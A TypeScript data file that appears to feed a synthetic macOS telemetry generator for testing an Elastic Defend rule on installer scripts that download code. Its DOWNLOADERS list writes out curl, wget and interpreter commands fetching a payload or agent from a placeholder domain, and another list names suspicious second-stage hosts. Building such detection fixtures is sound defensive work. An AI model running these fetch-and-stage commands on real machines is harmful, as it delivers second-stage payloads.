/**
 * What a fleet of Macs looks like to Elastic Defend: OS releases, users, programs with their usual arguments, and
 * the places they connect to. Static data only; the generator draws from it with its seeded PRNG.
 */

/** [product version, Darwin kernel] pairs of macOS releases in the field. */
export const MACOS_RELEASES: ReadonlyArray<readonly [string, string]> = [
  ['13.6.7', '22.6.0'],
  ['14.4.1', '23.4.0'],
  ['14.5', '23.5.0'],
  ['14.6.1', '23.6.0'],
  ['15.0.1', '24.0.0'],
  ['15.1', '24.1.0'],
  ['15.3.2', '24.3.0'],
];

export const AGENT_VERSIONS = ['8.14.3', '8.15.2', '8.17.1', '9.0.4'];

export const USER_NAMES = [
  'alice',
  'bob',
  'carol',
  'dmitri',
  'erin',
  'farah',
  'gustavo',
  'hana',
  'ivan',
  'jules',
  'kenji',
  'lena',
  'mateo',
  'nadia',
  'oscar',
  'priya',
  'quentin',
  'rosa',
  'sven',
  'tomoko',
];

export const HOST_KINDS = ['MacBook-Pro', 'MacBook-Air', 'Mac-mini', 'iMac', 'Mac-Studio'];

export interface ProgramSpec {
  name: string;
  executable: string;
  /** Argument vectors (argv[0] included) the program is usually started with. */
  argv: ReadonlyArray<readonly string[]>;
}

function prog(executable: string, ...argv: string[][]): ProgramSpec {
  const name = executable.slice(executable.lastIndexOf('/') + 1);
  return { name, executable, argv: argv.length > 0 ? argv : [[executable]] };
}

export const LAUNCHD = prog('/sbin/launchd', ['/sbin/launchd']);
export const XPCPROXY = prog('/usr/libexec/xpcproxy', ['xpcproxy', 'com.apple.mdworker.shared']);
export const TERMINAL = prog('/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', [
  '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal',
]);
export const LOGIN_SHELL = prog('/bin/zsh', ['-zsh']);
export const INSTALLER = prog(
  '/usr/sbin/installer',
  ['installer', '-pkg', '/Users/Shared/Update.pkg', '-target', '/'],
  ['installer', '-pkg', '/tmp/GoogleChrome.pkg', '-target', '/'],
  ['installer', '-verboseR', '-pkg', '/Volumes/Zoom/Zoom.pkg', '-target', '/'],
);
export const PACKAGE_SCRIPT_SERVICE = prog(
  '/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/package_script_service',
  ['/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/Resources/package_script_service'],
);

/** Daemons that talk to the network all day; none is a process the seed rule's network stage looks for. */
export const NETWORK_DAEMONS: readonly ProgramSpec[] = [
  prog('/usr/libexec/nsurlsessiond', ['/usr/libexec/nsurlsessiond']),
  prog('/usr/libexec/trustd', ['/usr/libexec/trustd']),
  prog('/System/Library/CoreServices/Software Update.app/Contents/Resources/softwareupdated', [
    '/System/Library/CoreServices/Software Update.app/Contents/Resources/softwareupdated',
  ]),
  prog('/usr/libexec/apsd', ['/usr/libexec/apsd']),
  prog('/usr/sbin/mDNSResponder', ['/usr/sbin/mDNSResponder']),
  prog('/System/Library/PrivateFrameworks/CloudKitDaemon.framework/Support/cloudd', [
    '/System/Library/PrivateFrameworks/CloudKitDaemon.framework/Support/cloudd',
  ]),
];

export const BROWSERS: readonly ProgramSpec[] = [
  prog(
    '/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/Current/Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper',
    ['Google Chrome Helper', '--type=utility', '--utility-sub-type=network.mojom.NetworkService'],
  ),
  prog('/Applications/Slack.app/Contents/Frameworks/Slack Helper.app/Contents/MacOS/Slack Helper', [
    'Slack Helper',
    '--type=utility',
  ]),
  prog('/Applications/Firefox.app/Contents/MacOS/firefox', [
    '/Applications/Firefox.app/Contents/MacOS/firefox',
  ]),
  prog('/System/Volumes/Preboot/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari', [
    '/System/Volumes/Preboot/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari',
  ]),
];

/** Background daemons launched through xpcproxy, mostly without network activity. */
export const LAUNCHED_DAEMONS: readonly ProgramSpec[] = [
  prog(
    '/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared',
    [
      '/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared',
      '-s',
      'mdworker',
      '-c',
      'MDSImporterWorker',
      '-m',
      'com.apple.mdworker.shared',
    ],
  ),
  prog('/usr/libexec/xpcroleaccountd', ['/usr/libexec/xpcroleaccountd', '-launchd']),
  prog('/usr/libexec/periodic-wrapper', ['/usr/libexec/periodic-wrapper', 'daily']),
  prog('/usr/sbin/spindump', ['/usr/sbin/spindump']),
  prog('/usr/libexec/biomesyncd', ['/usr/libexec/biomesyncd']),
  prog('/System/Library/CoreServices/ReportCrash', ['/System/Library/CoreServices/ReportCrash', 'agent']),
];

/** What people type in Terminal. */
export const SHELL_COMMANDS: readonly ProgramSpec[] = [
  prog('/bin/ls', ['ls', '-la'], ['ls', '-lh', '/Applications']),
  prog('/usr/bin/git', ['git', 'status'], ['git', 'pull', '--rebase'], ['git', 'log', '--oneline', '-20']),
  prog('/usr/bin/grep', ['grep', '-rn', 'TODO', 'src']),
  prog('/bin/cat', ['cat', '/etc/hosts']),
  prog('/bin/ps', ['ps', 'aux']),
  prog('/usr/bin/defaults', ['defaults', 'read', 'com.apple.dock']),
  prog('/opt/homebrew/bin/brew', ['brew', 'update'], ['brew', 'list']),
  prog('/usr/bin/ssh', ['ssh', 'build-01.internal']),
  prog('/usr/bin/top', ['top', '-l', '1']),
  prog('/usr/bin/sudo', ['sudo', 'softwareupdate', '-l']),
];

/** What package install scripts run besides a shell (none of them is in the rule's first stage). */
export const INSTALL_STEPS: readonly ProgramSpec[] = [
  prog('/bin/cp', ['cp', '-R', '/tmp/payload/App.app', '/Applications/']),
  prog('/bin/mkdir', ['mkdir', '-p', '/Library/Application Support/Vendor']),
  prog('/usr/sbin/chown', ['chown', '-R', 'root:wheel', '/Applications/App.app']),
  prog('/bin/launchctl', ['launchctl', 'load', '-w', '/Library/LaunchDaemons/com.vendor.helper.plist']),
  prog('/usr/sbin/pkgutil', ['pkgutil', '--forget', 'com.vendor.app']),
  prog('/usr/bin/xattr', ['xattr', '-dr', 'com.apple.quarantine', '/Applications/App.app']),
  prog('/usr/bin/killall', ['killall', 'App']),
];

/** Direct children of installer that are not shells: the rule's first stage must ignore them. */
export const INSTALLER_NON_SHELL_CHILDREN: readonly ProgramSpec[] = [
  prog('/private/tmp/PKInstallSandbox.A1b2C3/Scripts/com.vendor.pkg.abc123/postinstall', [
    '/private/tmp/PKInstallSandbox.A1b2C3/Scripts/com.vendor.pkg.abc123/postinstall',
    '/Users/Shared/Update.pkg',
    '/',
  ]),
  prog('/usr/sbin/pkgutil', ['pkgutil', '--pkgs']),
  prog('/usr/bin/ditto', ['ditto', '-x', '-k', '/tmp/payload.zip', '/Applications']),
];

/** Interpreters the rule's first stage looks for, as children of installer / package_script_service. */
export const SCRIPT_INTERPRETERS: readonly ProgramSpec[] = [
  prog(
    '/bin/bash',
    ['/bin/bash', '/tmp/PKInstallSandbox.x/Scripts/postinstall', '/', '/'],
    ['bash', '-c', 'sleep 1'],
  ),
  prog('/bin/sh', ['/bin/sh', '/tmp/PKInstallSandbox.x/Scripts/preinstall'], ['sh', '-c', 'echo installing']),
  prog('/bin/zsh', ['/bin/zsh', '/tmp/PKInstallSandbox.x/Scripts/postinstall']),
  prog('/usr/local/bin/python', ['python', '/tmp/PKInstallSandbox.x/Scripts/postinstall.py']),
  prog('/usr/bin/osascript', ['osascript', '-e', 'display dialog "Installing..."']),
  prog('/usr/bin/tclsh8.6', ['tclsh8.6', '/tmp/PKInstallSandbox.x/Scripts/setup.tcl']),
];

/** Programs the rule's network stage looks for. */
export const DOWNLOADERS: readonly ProgramSpec[] = [
  prog(
    '/usr/bin/curl',
    ['curl', '-fsSL', '-o', '/tmp/.update', 'https://{domain}/payload'],
    ['curl', '-s', 'https://{domain}/i.sh'],
  ),
  prog('/opt/homebrew/bin/wget', ['wget', '-q', '-O', '/tmp/.agent', 'https://{domain}/agent']),
  prog('/usr/local/bin/python', [
    'python',
    '-c',
    'import urllib.request;urllib.request.urlopen("https://{domain}/")',
  ]),
  prog('/usr/bin/osascript', ['osascript', '-l', 'JavaScript', '-e', 'fetch("https://{domain}")']),
  prog('/usr/bin/java', ['java', '-jar', '/tmp/updater.jar']),
  prog('/usr/bin/ruby', ['ruby', '-e', 'require "net/http"; Net::HTTP.get(URI("https://{domain}"))']),
  prog('/opt/homebrew/bin/node', ['node', '/tmp/.cache/index.js']),
];

export const CURL = DOWNLOADERS[0];

/** Network programs outside the rule's list, run from install scripts. */
export const OTHER_NETWORK_TOOLS: readonly ProgramSpec[] = [
  prog('/usr/sbin/softwareupdate', ['softwareupdate', '--install-rosetta', '--agree-to-license']),
  prog('/usr/bin/nscurl', ['nscurl', 'https://{domain}/']),
  prog('/usr/bin/python3', ['python3', '-m', 'pip', 'install', 'requests']),
];

/** Destinations with stable addresses, for benign traffic. */
export const BENIGN_DESTINATIONS: ReadonlyArray<readonly [string, string]> = [
  ['www.apple.com', '17.253.144.10'],
  ['swscan.apple.com', '17.253.21.207'],
  ['gateway.icloud.com', '17.248.193.66'],
  ['github.com', '140.82.121.4'],
  ['objects.githubusercontent.com', '185.199.108.133'],
  ['www.google.com', '142.250.185.68'],
  ['clients2.google.com', '142.250.186.46'],
  ['slack.com', '3.120.173.22'],
  ['formulae.brew.sh', '151.101.1.91'],
  ['registry.npmjs.org', '104.16.27.35'],
  ['pypi.org', '151.101.0.223'],
  ['zoom.us', '170.114.52.2'],
];

/** Where malicious install scripts fetch their second stage from. */
export const SUSPICIOUS_DESTINATIONS: ReadonlyArray<readonly [string, string]> = [
  ['cdn-updates.s3.amazonaws.com', '52.217.226.89'],
  ['api.mac-cleaner-pro.net', '185.161.211.34'],
  ['update.flashplayer-mac.com', '91.215.85.17'],
  ['raw.githubusercontent.com', '185.199.110.133'],
  ['dl.dropboxusercontent.com', '162.125.6.15'],
];
